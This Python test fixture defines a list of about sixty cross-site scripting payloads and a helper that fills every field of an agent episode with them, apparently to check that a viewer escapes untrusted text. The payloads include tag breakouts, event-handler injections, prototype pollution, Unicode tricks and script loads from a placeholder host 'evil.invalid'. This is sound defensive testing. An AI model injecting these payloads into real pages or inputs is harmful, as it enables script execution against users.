"""Texts that try to run in a page, and an episode that has them everywhere."""

from __future__ import annotations

from mappa_env.types import (
    Attribution,
    Criterion,
    FileChange,
    Link,
    Outcome,
    Task,
    ToolCall,
    ToolResult,
    Trajectory,
    Verdict,
)
from recorded import recorded

_RUN = "window.hit=1;alert(1)"
_AWAY = "http://evil.invalid/x"
PAYLOADS = (
    f"<script>{_RUN}</script>",
    f"<script src={_AWAY}></script>",
    f"</script><script>{_RUN}</script>",
    f"</SCRIPT ><script>{_RUN}</script>",
    f"<!--<script>{_RUN}</script>",
    f"--><script>{_RUN}</script>",
    f"]]><script>{_RUN}</script>",
    f"</pre><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"</noscript><script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f"<img src={_AWAY}>",
    f'"><img src=x onerror="{_RUN}">',
    f"'><img src=x onerror='{_RUN}'>",
    f"`><img src=x onerror=`{_RUN}`>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text>x</text></a></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"<body onload={_RUN}>",
    f"<iframe src='javascript:{_RUN}'></iframe>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<iframe src={_AWAY}></iframe>",
    f"<object data={_AWAY}></object>",
    f"<embed src={_AWAY}>",
    f"<link rel=stylesheet href={_AWAY}>",
    f"<style>@import '{_AWAY}';</style>",
    f"<style>*{{background:url({_AWAY})}}</style>",
    f"<div style='background:url({_AWAY})'>x</div>",
    f"<meta http-equiv=refresh content='0;url={_AWAY}'>",
    f"<base href={_AWAY}>",
    f"<form action={_AWAY}><input type=submit autofocus></form>",
    f"<input onfocus={_RUN} autofocus>",
    f"<select onfocus={_RUN} autofocus>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<video src=x onerror={_RUN}></video>",
    f"<audio src={_AWAY} autoplay></audio>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<a href='javascript:{_RUN}'>x</a>",
    f"<template><script>{_RUN}</script></template>",
    f"<x onclick={_RUN} tabindex=0 autofocus onfocus={_RUN}>",
    f"javascript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"');{_RUN};('",
    f'");{_RUN};("',
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    f"${{{_RUN}}}",
    f"<%= {_RUN} %>",
    '{"__proto__": {"innerHTML": "<img src=x onerror=alert(1)>"}}',
    f"__proto__\u2028{_RUN}\u2029//",
    f"\u202e<script>{_RUN}</script>\u202c",
    f"\ud800<script>{_RUN}</script>\udfff",
    f"\x00<script>{_RUN}</script>\x1b[2J\x07",
    f"\ufeff\u200b<scr\u200bipt>{_RUN}</scr\u200bipt>",
    f"```html\n<script>{_RUN}</script>\n```",
    "dangerouslySetInnerHTML",
)


def hostile_episode(payloads: tuple[str, ...], seed: int = 0) -> Trajectory:
    """An episode with an action per payload, which stands in all of its texts."""
    first = payloads[0]
    actions = tuple(
        recorded(
            "solver_0",
            step=step,
            turn=step,
            messages=({"role": text, "content": text}, {"role": "user", "content": f"{text}\n" * 40}),
            action=text,
            thinking=text,
            answer=f"{text}\n```python\nopen('{text}') # {text}\n```",
            code=f"open('{text}')",
            tool=ToolResult(
                "error",
                1,
                text,
                text,
                files=(FileChange(text, "created", 1, text), FileChange("a", "created", 1, "")),
            ),
            verdict=Verdict(
                "ok",
                5.0,
                text,
                (
                    Criterion(text, 0.5, 1.0, text, text),
                    Criterion("lost", 0.5, 1.0, text, f"{text} not there"),
                ),
                blame=text,
                corrected_action=text,
                coach=text,
            ),
            calls=(ToolCall(text, {text: text}, "error", text, "server"),),
            stratum=("math", text, 0),
            missing=(text,),
            probe={text: text},
        )
        for step, text in enumerate(payloads)
    )
    return Trajectory(
        env_id=first,
        task=Task(id=first, prompt=first, metric=first, topic=first),
        seed=seed,
        actions=actions,
        outcome=Outcome(0.0, False, first, first, {first: 0.5}),
        settings={first: first},
        attribution=Attribution(
            True, (1.0, *(0.0 for _ in payloads[1:])), "tracing", (Link(1, first), Link(0, first)), (0,)
        ),
    )
